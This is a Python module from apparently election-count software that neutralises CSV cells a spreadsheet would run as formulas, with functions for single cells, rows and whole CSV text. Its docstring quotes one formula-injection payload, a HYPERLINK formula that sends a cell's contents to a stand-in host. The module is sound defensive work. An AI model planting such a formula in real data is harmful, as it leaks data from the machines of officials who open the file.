"""CSV that is safe to open in a spreadsheet: no cell starts a formula (issue 8, item 11).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, one
starting with a tab or carriage return) as a formula: a candidate named
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run on the returning officer's
machine when they open the published rounds. Such cells get a leading apostrophe, which
spreadsheets show as text and do not display. Plain numbers (``-3``, ``+1.5``: transfers are
negative) are left alone, and a cell that already starts with an apostrophe is not escaped
again, so neutralising twice changes nothing.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")


def cell_neutralise(value: object) -> str:
    """Return the cell's text, with a leading apostrophe if a spreadsheet would run it."""
    text = "" if value is None else str(value)
    if text.startswith(_FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_rows_neutralise(rows: Iterable[Iterable[object]]) -> list[list[str]]:
    """Return the rows with every cell neutralised."""
    return [[cell_neutralise(cell) for cell in row] for row in rows]


def csv_text_neutralise(text: str) -> str:
    """Return CSV text with every cell neutralised, written back in the same style.

    For CSV made elsewhere (the count's round table): read it, neutralise each cell, write it
    with the same line ending. Text without a dangerous cell comes back unchanged.
    """
    line_ending = "\r\n" if "\r\n" in text else "\n"
    rows = list(csv.reader(io.StringIO(text)))
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator=line_ending).writerows(csv_rows_neutralise(rows))
    return buffer.getvalue()
